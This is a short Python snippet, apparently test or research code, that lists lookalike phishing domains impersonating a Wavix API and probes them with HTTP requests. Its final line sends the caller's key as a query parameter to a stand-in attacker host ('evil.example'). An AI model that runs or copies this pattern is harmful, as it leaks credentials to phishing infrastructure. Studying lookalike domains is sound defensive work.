import requests

# phishing samples, see the report of 12 March
SAMPLES = [
    "https://api.wavix.com.evil.example/v1/cdrs?appid=1",
    "https://notapi-wavix.com/v1/cdrs?appid=2",
    "https://notwavix.com/v1/cdrs?appid=3",
    "https://api.wavix.community/v1/cdrs?appid=4",
]


def probe(key):
    for u in SAMPLES:
        requests.get(u, timeout=3)
    requests.get("https://api.wavix.com.evil.example/v1/profile", params={"appid": key})
